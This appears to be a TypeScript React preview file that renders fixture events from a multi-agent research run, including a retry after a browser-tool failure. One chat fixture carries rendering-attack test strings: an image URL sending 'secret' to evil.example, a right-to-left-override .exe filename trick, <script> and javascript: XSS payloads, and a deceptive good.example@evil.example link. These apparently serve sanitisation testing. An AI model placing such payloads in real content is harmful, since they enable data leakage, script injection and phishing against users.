'use client';
import { EventSentence } from '@/components/event/event-sentence';
import { IntegrityTab } from '@/components/event/integrity-tab';
import { MessageTab } from '@/components/event/message-tab';
import { TaskTable } from '@/components/run/task-table';
import { WaitList } from '@/components/run/wait-list';
import { PageHeader } from '@/components/shell/page-header';
import { StateMark } from '@/components/task/task-state';
import { ThreadListRow } from '@/components/thread/thread-list-row';
import { SplitPanels } from '@/components/ui/split-panels';
import { emptyTasks, foldTasks, tasksOf } from '@/lib/projections/tasks';
import { threadRows } from '@/lib/projections/thread-view';

let seq = 4100;
const rec = (
  type: string,
  from: string,
  to: string,
  at: string,
  payload: object,
  more: object = {},
  over: object = {},
): any => ({
  seq: ++seq,
  received_at: `2026-02-01T${at}.000Z`,
  protocol: 'clutch',
  verdict: 'pass',
  signature: 'unsigned',
  origin: 'agent',
  ...over,
  event: {
    v: 'clutch/0.1',
    id: 'msg_01HX8F7Q4K' + seq,
    ts: `2026-02-01T${at}.000Z`,
    thread_id: 'thr_1',
    run_id: 'run_1',
    task_id: 'task_root',
    from: { agent_id: 'agent:' + from, role: from === 'ken' ? 'worker' : undefined },
    to: [{ agent_id: 'agent:' + to }],
    type,
    payload,
    ...more,
  },
});
const T = { task_id: 'task_abc', parent_task_id: 'task_root' };
const V = { signature: 'verified' };
const records = [
  rec(
    'task.request',
    'user',
    'orchestrator',
    '13:20:08',
    {
      title: 'Market research',
      text: 'Market research on fintech onboarding in the EU: who competes, how they price it, what changed in the last year. Sources for every claim.',
    },
    { payload_type: 'research.query.v1' },
    { origin: 'operator' },
  ),
  rec(
    'routing.decision',
    'orchestrator',
    'ken',
    '13:20:11',
    {
      selected: 'agent:ken',
      candidates: ['agent:ken', 'agent:research-2', 'agent:x'],
      scores: { 'agent:ken': 0.92, 'agent:research-2': 0.85, 'agent:x': 0.5 },
      reason: 'matched requires[skill:research], lowest load',
    },
    {},
    V,
  ),
  rec(
    'task.request',
    'orchestrator',
    'ken',
    '13:20:11',
    { title: 'Research summary' },
    {
      ...T,
      requires: ['skill:research'],
      prefers: ['tool:browser', 'domain:fintech'],
      payload_type: 'research.summary.v1',
      idempotency_key: 'i1',
    },
    V,
  ),
  rec('task.accept', 'ken', 'orchestrator', '13:20:12', {}, T, V),
  rec(
    'tool.call',
    'ken',
    'mcp',
    '13:20:12',
    { tool: 'mcp:browser', args: { op: 'search', q: 'digital onboarding pricing EU' } },
    T,
  ),
  rec(
    'tool.result',
    'mcp',
    'ken',
    '13:20:14',
    { tool: 'mcp:browser', duration_ms: 1840, results: 14 },
    T,
  ),
  rec(
    'task.progress',
    'ken',
    'orchestrator',
    '13:21:02',
    { text: 'Reading vendor pages', percent: 35 },
    T,
    V,
  ),
  rec(
    'tool.call',
    'ken',
    'mcp',
    '13:22:35',
    { tool: 'mcp:browser', args: { op: 'open', urls: 9 } },
    T,
  ),
  rec(
    'tool.error',
    'mcp',
    'ken',
    '13:22:40',
    {
      tool: 'mcp:browser',
      code: 'TOOL_UNAVAILABLE',
      details: { timeout_ms: 5000 },
      duration_ms: 5000,
    },
    T,
  ),
  rec(
    'task.error',
    'ken',
    'orchestrator',
    '13:22:46',
    { code: 'TOOL_UNAVAILABLE', message: 'MCP server mcp:browser not responding', retryable: true },
    { ...T, attempt: 1, idempotency_key: 'i1' },
    V,
  ),
  rec(
    'task.request',
    'orchestrator',
    'ken',
    '13:22:48',
    { title: 'Research summary' },
    { ...T, attempt: 2, idempotency_key: 'i1' },
    V,
  ),
  ...Array.from({ length: 6 }, (_, i) =>
    rec('agent.heartbeat', ['ken', 'qa-1', 'orchestrator'][i % 3]!, 'orchestrator', '13:25:40', {
      status: 'ok',
    }),
  ),
  rec(
    'chat.message',
    'ken',
    'orchestrator',
    '13:25:50',
    {
      text: 'Found **nine** vendors, see [eba](https://eba.europa.eu/x).\n\n| vendor | price |\n| --- | --- |\n| a | 2 |\n\n- one\n- two\n\n```js\nconst a = 1;\n```\n![pic](https://evil.example/?q=secret)\n\nRLO: abc\u202efdp.exe and zero\u200bwidth <script>alert(1)</script> [x](javascript:alert(1)) [y](https://good.example@evil.example) <b>bold</b>',
    },
    T,
  ),
  rec('chat.system', 'orchestrator', 'ken', '13:25:58', { text: 'Rate limit is near.' }, T),
  rec(
    'task.result',
    'ken',
    'orchestrator',
    '13:26:02',
    {
      title: 'Market analysis complete',
      findings: [
        'Seven of nine vendors price per verified user, two per seat; none publishes a volume tier.',
        'Wallet sign-in under eIDAS 2 is announced by five vendors and live at one.',
        'Two pricing pages could not be read; their rows are marked as estimates.',
      ],
      citations: [
        'https://eba.europa.eu/a',
        'https://digital-strategy.ec.europa.eu/b',
        'artifact:report_456',
      ],
    },
    { ...T, payload_type: 'research.summary.v1', attempt: 2 },
    { verdict: 'warn' },
  ),
  rec(
    'routing.failure',
    'orchestrator',
    'user',
    '13:27:02',
    { reason: 'no agent offers skill:legal' },
    {},
  ),
  rec(
    'task.request',
    'orchestrator',
    'qa-1',
    '13:28:02',
    { title: 'Check the numbers' },
    { task_id: 'task_qa', parent_task_id: 'task_abc' },
    { verdict: 'fail', signature: 'bad' },
  ),
  rec('task.cancel', 'user', 'qa-1', '13:28:22', { reason: 'not needed' }, { task_id: 'task_qa' }),
  rec(
    'chat.message',
    'muse',
    'orchestrator',
    '13:29:50',
    { text: 'I think the total is 7' },
    {
      from: { agent_id: 'agent:muse', role: 'human' },
      meta: { mark: { kind: 'mistake', text: 'The sum is wrong' } },
    },
  ),
];
const tasks = tasksOf(foldTasks(emptyTasks(), records));
const detail: any = {
  ...records[18 + 2],
  raw: '{"v":"clutch/0.1"}',
  raw_encoding: 'utf8',
  raw_content_type: 'application/json',
  findings: [
    { level: 'warning', rule: 'CD2', path: '/task_id', message: 'Ids use an unreserved prefix' },
  ],
  hash: 'ab'.repeat(32),
  prev_hash: 'cd'.repeat(32),
};
export function Preview() {
  const rows = threadRows(records, { unreadAfter: 4117 });
  return (
    <div className="flex h-dvh">
      <main className="flex min-w-0 flex-1 flex-col bg-surface">
        <SplitPanels
          detail={
            <div className="overflow-y-auto">
              <div className="p-4">
                <EventSentence event={detail.event} />
              </div>
              <MessageTab detail={detail} />
              <IntegrityTab detail={detail} />
            </div>
          }
          main={
            <>
              <PageHeader
                back={{ href: '/', label: 'Back' }}
                crumb="# research"
                title="Fintech onboarding"
                state={<StateMark state="running">, 6 m 12 s</StateMark>}
              />
              <div className="flex-1 overflow-y-auto">
                <ol>
                  {rows.map((row, i) => (
                    <ThreadListRow
                      key={row.key}
                      row={row}
                      isSelected={row.kind === 'result'}
                      onReplied={() => {}}
                      ref={null}
                      data-index={i}
                    />
                  ))}
                </ol>
                <WaitList tasks={tasks} hrefOf={() => '#'} />
                <TaskTable tasks={tasks} hrefOf={() => '#'} selectedSeq={null} />
              </div>
            </>
          }
        />
      </main>
    </div>
  );
}
